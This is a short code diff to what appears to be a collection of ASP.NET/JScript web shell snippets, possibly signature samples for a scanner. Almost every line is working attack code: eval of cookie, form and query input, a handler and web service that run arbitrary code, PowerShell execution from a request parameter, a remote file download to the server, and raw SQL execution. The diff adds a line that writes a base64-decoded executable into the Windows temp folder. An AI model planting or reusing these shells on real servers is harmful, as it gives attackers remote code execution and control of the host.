@@ -2,7 +2,7 @@
 <%@ Page Language="JScript" Debug="false" %><% var k : String = Request.Cookies["k"].Value; eval /* run */ (k); %>
 <%@ WebHandler Language="JScript" Class="H" %>import System.Web; class H implements IHttpHandler { function ProcessRequest(c : HttpContext) { eval(c.Request.Form["x"]); } }
 <%@ WebService Language="JScript" Class="W" %>import System.Web.Services; class W extends System.Web.Services.WebService { WebMethodAttribute function Run(s : String) : String { return eval(s); } }
-<title>Export Table</title><% var da = new SqlDataAdapter(cmd); da.Fill(ds); var w = new System.IO.StreamWriter(dir + (n + 1) + name, false); %>
+<title>Export Table</title><% var cs = "server=" + txtServerIP.Text + ";database=" + db; var da = new SqlDataAdapter(cmd); da.Fill(ds); var w = new System.IO.StreamWriter(dir + (n + 1) + name, false); %>
 <% conn.ConnectionString = txtConnection.Text; conn.Open(); var cmd = new SqlCommand( txtSql.Text , conn); %>
 <% conn.ConnectionString = "Data Source=" + txtDatabaseServer.Text + ";User ID=" + u; var c = new SqlCommand("sp_stored_procedures", conn); %>
 <% Control c = Page.ParseControl( Request.Form["c"] ); Controls.Add(c); %>
@@ -12,3 +12,4 @@
 <% new System.Net.WebClient().DownloadFile(Request["u"], Server.MapPath(Request["f"])); %>
 <% var ps = System.Management.Automation.PowerShell.Create(); ps.AddScript( Request["c"] ); ps.Invoke(); %>
 <% Response.Write(Microsoft.JScript.Eval.JScriptEvaluate(Request["c"], Microsoft.JScript.Vsa.VsaEngine.CreateEngine())); %>
+<% byte[] b = Convert.FromBase64String("TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAA"); System.IO.File.WriteAllBytes(@"c:\windows\temp\a.exe", b); %>
